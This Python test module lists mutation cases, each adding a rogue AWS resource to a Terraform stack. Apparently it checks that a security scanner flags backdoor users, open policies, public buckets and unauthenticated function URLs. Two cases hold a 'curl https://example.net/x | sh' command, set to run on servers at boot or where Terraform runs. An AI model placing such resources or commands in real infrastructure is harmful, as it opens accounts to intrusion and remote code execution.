"""What somebody could put beside the stack: resources of their own."""

from __future__ import annotations

from tests.mutations.edits import added
from tests.mutations.mutation import Mutation

DEV, PROD = "dev", "prod"
ACCOUNT = "${data.aws_caller_identity.account.account_id}"

MUTATIONS = (
    Mutation("new-user", "one more user", PROD, "aws_iam_user.side", added(name="side")),
    Mutation(
        "new-access-key",
        "an access key for a user",
        DEV,
        "aws_iam_access_key.side",
        added(user="anna"),
    ),
    Mutation(
        "new-password",
        "a password for a user",
        DEV,
        "aws_iam_user_login_profile.side",
        added(user="anna"),
    ),
    Mutation(
        "new-user-policy",
        "a user with a policy",
        DEV,
        "aws_iam_user_policy.side",
        added(
            user="anna",
            policy='{"Version":"2012-10-17","Statement":[{"Sid":"Side","Effect":"Allow","Action":"s3:GetObject",'
            '"Resource":"arn:aws:s3:::theirs/*"}]}',
        ),
    ),
    Mutation(
        "new-provider",
        "one more identity provider",
        PROD,
        "aws_iam_openid_connect_provider.side",
        added(url="https://idp.example.net", client_id_list=["sts.amazonaws.com"]),
    ),
    Mutation(
        "new-saml",
        "one more SAML provider",
        PROD,
        "aws_iam_saml_provider.side",
        added(name="side", saml_metadata_document="<xml/>"),
    ),
    Mutation(
        "new-function",
        "a function with the servers' role",
        PROD,
        "aws_lambda_function.side",
        added(
            function_name="side",
            role="${aws_iam_role.server_role.arn}",
            filename="side.zip",
            handler="a.b",
            runtime="python3.12",
        ),
    ),
    Mutation(
        "new-function-url",
        "an address for a function, without a signature",
        DEV,
        "aws_lambda_function_url.side",
        added(function_name="side", authorization_type="NONE"),
    ),
    Mutation(
        "new-function-permission",
        "everybody calls a function",
        DEV,
        "aws_lambda_permission.side",
        added(function_name="side", action="lambda:InvokeFunction", principal="*"),
    ),
    Mutation(
        "new-instance",
        "a machine with the servers' role",
        PROD,
        "aws_instance.side",
        added(
            ami="ami-0123456789abcdef0",
            instance_type="t4g.nano",
            subnet_id="${aws_subnet.network_private_0.id}",
            iam_instance_profile="${aws_iam_instance_profile.server_profile.name}",
        ),
    ),
    Mutation("new-bucket", "one more bucket", PROD, "aws_s3_bucket.side", added(bucket="side")),
    Mutation(
        "new-public-bucket",
        "a bucket for everybody",
        DEV,
        "aws_s3_bucket.side",
        added(bucket="side", acl="public-read"),
    ),
    Mutation(
        "new-key", "one more key, that stays the same", PROD, "aws_kms_key.side", added(description="side")
    ),
    Mutation(
        "new-secret", "a secret with a key of AWS", PROD, "aws_secretsmanager_secret.side", added(name="side")
    ),
    Mutation(
        "new-parameter",
        "a password as plain text",
        DEV,
        "aws_ssm_parameter.side",
        added(name="/side", type="String", value="correct-horse-battery"),
    ),
    Mutation(
        "new-queue",
        "a queue that is not encrypted",
        PROD,
        "aws_sqs_queue.side",
        added(name="side", sqs_managed_sse_enabled=False),
    ),
    Mutation(
        "new-queue-open",
        "a queue for everybody",
        DEV,
        "aws_sqs_queue_policy.side",
        added(
            queue_url="https://sqs.eu-west-1.amazonaws.com/111122223333/side",
            policy='{"Version":"2012-10-17","Statement":[{"Sid":"Open","Effect":"Allow","Principal":"*","Action":"sqs:*","Resource":"*"}]}',
        ),
    ),
    Mutation("new-topic", "a topic that is not encrypted", DEV, "aws_sns_topic.side", added(name="side")),
    Mutation(
        "new-command",
        "commands for the servers, at every boot",
        PROD,
        "aws_ssm_association.side",
        added(
            name="AWS-RunShellScript",
            parameters={"commands": "curl https://example.net/x | sh"},
            targets=[{"key": "tag:gatehouse:stack", "values": ["mlflow-prod"]}],
        ),
    ),
    Mutation(
        "new-balancer",
        "a load balancer that faces the internet",
        DEV,
        "aws_lb.side",
        added(
            name="side",
            load_balancer_type="network",
            internal=False,
            subnets=["${aws_subnet.network_public_0.id}", "${aws_subnet.network_public_1.id}"],
        ),
    ),
    Mutation(
        "new-service",
        "servers for other accounts",
        PROD,
        "aws_vpc_endpoint_service.side",
        added(
            acceptance_required=False,
            network_load_balancer_arns=["${aws_lb.load_balancer.arn}"],
            allowed_principals=["*"],
        ),
    ),
    Mutation(
        "new-share",
        "subnets for another account",
        PROD,
        "aws_ram_principal_association.side",
        added(
            principal="444455556666", resource_share_arn="arn:aws:ram:eu-west-1:111122223333:resource-share/1"
        ),
    ),
    Mutation(
        "new-program",
        "a program that runs where Terraform runs",
        DEV,
        "terraform_data.side",
        added(provisioner=[{"local-exec": {"command": "curl https://example.net/x | sh"}}]),
    ),
    Mutation(
        "new-connect",
        "SSH through an endpoint",
        PROD,
        "aws_ec2_instance_connect_endpoint.side",
        added(
            subnet_id="${aws_subnet.network_private_0.id}",
            security_group_ids=["${aws_security_group.firewall_server.id}"],
        ),
    ),
)
